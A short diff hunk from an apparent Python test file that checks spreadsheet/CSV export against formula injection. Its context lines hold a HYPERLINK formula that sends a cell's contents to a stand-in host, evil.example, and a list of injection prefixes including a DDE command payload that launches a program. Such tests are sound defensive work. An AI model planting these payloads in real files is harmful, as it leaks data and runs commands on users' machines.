@@ -21,6 +21,7 @@ from duixian.portal.web import written
 from duixian.portal.web.sheets import Column, read_sheet, read_table, write_sheet
 from duixian.portal.web.written import csv_of
 
+pytestmark = pytest.mark.usefixtures("settled_city")
 EVIL = '=HYPERLINK("http://evil.example/?"&A2,"点我")'
 STARTS = ("=1+1", "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "＠x", "'=1+1")
 
